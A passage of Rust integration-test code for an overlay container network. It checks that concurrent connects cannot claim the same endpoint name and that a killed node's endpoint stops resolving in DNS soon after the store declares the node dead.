            .map(|h| h.join().expect("racer thread"))
            .collect::<Result<_>>()
    })?;
    let winners = results.iter().filter(|ok| **ok).count();
    ensure!(
        winners == 1,
        "{winners} connects got the name `same`: {results:?}"
    );
    let named_same = world.inspect(0, NETWORK)?["endpoints"]
        .as_array()
        .context("endpoints")?
        .iter()
        .filter(|e| e["name"] == "same")
        .count();
    ensure!(named_same == 1, "{named_same} endpoints are named `same`");

    // web on C, client on A; C's node dies.
    let web = lab.container("web")?;
    let web_ip = world.ovl.connect(
        &world.hosts[2],
        ThreeHosts::NODES[2],
        NETWORK,
        &web,
        &["--name", "web"],
    )?;
    let client = lab.container("client")?;
    world.ovl.connect(
        &world.hosts[0],
        ThreeHosts::NODES[0],
        NETWORK,
        &client,
        &["--name", "client"],
    )?;
    wait_until(Duration::from_secs(2), || {
        Ok(dig(&client, "web", &[])?.answers == [web_ip.to_string()])
    })
    .context("web never resolved from A")?;
    let mut world = world;
    let dead = world.agents.remove(2);
    dead.kill()?;
    dead.wait_exit(Duration::from_secs(5))?;
    // Once the store says C is dead, web stops resolving within a second.
    let mut declared = None;
    wait_until(Duration::from_secs(u64::from(ttl as u32) + 10), || {
        let nodes = world.nodes(0)?;
        let alive = nodes
            .iter()
            .find(|(n, _, _)| n == ThreeHosts::NODES[2])
            .map(|(_, _, a)| a.clone())
            .unwrap_or_default();
        if alive == "no" {
            declared = Some(Instant::now());
        }
        Ok(alive == "no")
    })
    .context("C never declared dead")?;
    let declared = declared.context("declared")?;
    wait_until(Duration::from_secs(1), || {
        Ok(dig(&client, "web", &["+time=1"])?.status == "NXDOMAIN")
    })
    .context("a dead node's endpoint still resolves 1 s after the store says so")?;
    eprintln!("NXDOMAIN {:?} after C was listed dead", declared.elapsed());
    world.stop()
}
